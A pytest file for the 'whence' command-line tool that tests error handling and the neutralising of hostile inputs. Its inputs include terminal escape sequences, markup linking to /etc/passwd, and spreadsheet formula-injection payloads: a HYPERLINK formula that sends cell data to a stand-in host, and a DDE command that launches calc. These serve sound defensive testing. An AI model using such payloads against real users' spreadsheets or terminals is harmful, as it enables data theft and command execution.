"""What the system refuses, and what other people named: one line each, and no terminal obeys it."""

import os
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest

import whence as wh
from whence.cli import failures
from whence.kernels import _check_threads

from .typed import fail

PROGRAM = "from whence.cli.main import main; main()"
EVIL = "\x1b]0;PWN\x1b\\\x1b[2J\u202e"


def started(*words, **more):
    return subprocess.run(
        [sys.executable, "-c", PROGRAM, *map(str, words)],
        stderr=subprocess.PIPE, text=True, timeout=60, check=False, **more,
    )  # fmt: skip


def test_a_file_that_the_system_refuses(run, monkeypatch):
    def refused(path):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(wh, "load", refused)
    fail(run("show", "a.whence"), "a.whence: Permission denied")


def test_no_memory(run, monkeypatch):
    def full(path):
        raise MemoryError

    monkeypatch.setattr(wh, "load", full)
    fail(run("show", "a.whence"), "not enough memory")


def test_a_bug_of_ours_is_left_to_raise(run, monkeypatch):
    """Kills: a door that hides what should be mended."""

    def broken(path):
        raise ZeroDivisionError

    monkeypatch.setattr(wh, "load", broken)
    with pytest.raises(ZeroDivisionError):
        run("show", "a.whence")


@pytest.mark.parametrize("words", [["x" * 300], [f"no{EVIL.replace('/', '')}.whence"]])
def test_a_file_with_an_impossible_name(desk, run, words):
    got = run("show", *words)
    fail(got)
    assert got.stderr.strip().isprintable()


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="there is no full disk here")  # noqa: PTH110
def test_an_answer_that_cannot_be_printed(made):
    with open("/dev/full", "w") as full:  # noqa: PTH123
        got = started("show", made, stdout=full)
    assert got.returncode == failures.WRONG
    assert got.stderr.strip() == "error: the answer could not be printed: No space left on device"


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="there is no full disk here")  # noqa: PTH110
@pytest.mark.parametrize("words", [["--help"], ["show", "--help"], ["--version"]])
def test_help_that_cannot_be_printed(desk, words):
    with open("/dev/full", "w") as full:  # noqa: PTH123
        got = started(*words, stdout=full)
    assert got.returncode == failures.WRONG
    assert got.stderr.strip() == "error: the answer could not be printed: No space left on device"


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="there is no full disk here")  # noqa: PTH110
def test_a_slip_that_cannot_be_told(desk):
    code = f"import os, sys; os.dup2(os.open('/dev/full', os.O_WRONLY), 2); {PROGRAM}"
    ask = [sys.executable, "-c", code, "show", "nowhere.whence"]
    assert subprocess.run(ask, timeout=60, check=False).returncode == failures.WRONG


def test_output_that_was_closed(made):
    code = f"import os; os.close(1); import sys; sys.stdout = None; {PROGRAM}"
    got = subprocess.run(
        [sys.executable, "-c", code, "show", str(made)],
        stderr=subprocess.PIPE, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert got.returncode == 0
    assert "Traceback" not in got.stderr


@pytest.mark.parametrize("given", ["x", "0", "-1", ""])
def test_threads_that_are_no_number(monkeypatch, given):
    """Kills: numba's own trace, in the middle of its import."""
    monkeypatch.setenv("NUMBA_NUM_THREADS", given)
    with pytest.raises(wh.WhenceError, match=f"NUMBA_NUM_THREADS='{given}' in the environment"):
        _check_threads()


def test_a_keyboard_interrupt_while_the_rest_is_imported(monkeypatch, capsys):
    from whence.cli import main

    monkeypatch.setitem(sys.modules, "whence.cli.app", Interrupts("app"))
    with pytest.raises(SystemExit) as ended:
        main.main()
    assert ended.value.code == 130
    assert capsys.readouterr().err == "interrupted\n"


class Interrupts(type(sys)):
    """A module in whose import somebody presses Ctrl-C."""

    def __getattr__(self, name):
        raise KeyboardInterrupt


@pytest.mark.parametrize("columns", ["0", "x", "", "-1"])
def test_a_width_that_is_none(made, run, monkeypatch, columns):
    """Kills: COLUMNS=0, of cron and some editors, that prints nothing."""
    monkeypatch.setenv("COLUMNS", columns)
    odd = run("show", made).stdout
    monkeypatch.delenv("COLUMNS")
    assert odd == run("show", made).stdout


@pytest.mark.parametrize(
    "name", ["run [/1]", "v[bold]1", "[link=file:///etc/passwd]x[/link]", EVIL]
)
def test_names_in_a_store_are_letters(desk, run, name):
    game = wh.FunctionGame(lambda stay: stay.sum(axis=1) * 1.0, ["a", "b"])
    wh.attribute(game, keep=wh.engines.Store(desk / "e.db", name=name))
    got = run("store", "info", "e.db")
    assert got.exit_code == 0
    assert got.stdout.replace("\n", "").isprintable()
    assert name[:9].replace("\x1b", "�") in got.stdout


@pytest.mark.parametrize("days", ["1e9", "nan"])
def test_a_store_of_days_beyond_the_calendar(desk, run, days):
    game = wh.FunctionGame(lambda stay: stay.sum(axis=1) * 1.0, ["a", "b"])
    wh.attribute(game, keep=str(desk / "e.db"))
    assert run("store", "prune", "e.db", "--older", days).exit_code == 2


@pytest.mark.parametrize("frames", ["pandas", "polars"])
def test_no_spreadsheet_runs_a_csv(desk, run, monkeypatch, frames):
    names = ['=HYPERLINK("http://x/"&A1)', "@SUM(1)", "fine"]
    X = pd.DataFrame(np.random.default_rng(0).normal(size=(20, 3)), columns=names)
    wh.explain(lambda r: np.asarray(r)[:, 0], X[:2], background=X).save("a.whence")
    monkeypatch.setattr("whence.cli.files.find_spec", lambda name: name == frames)
    assert run("show", "a.whence", "--csv", "a.csv").exit_code == 0
    cells = pd.read_csv("a.csv")
    assert set(cells["player"]) == {f"'{names[0]}", "'@SUM(1)", "fine"}
    assert (cells["value"] != 0).any()


def test_no_spreadsheet_runs_the_suspects(tmp_path):
    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(40, 2)), columns=["a", "b"])
    y = np.where(X["a"] + rng.normal(size=40) > 0, "=cmd|' /C calc'!A0", "b")
    path = wh.suspects(wh.value(X, y), X, y, most=5).to_csv(tmp_path / "s.csv")
    said = pd.read_csv(path)
    assert {label[:1] for label in said["label"]} <= {"'", "b"}
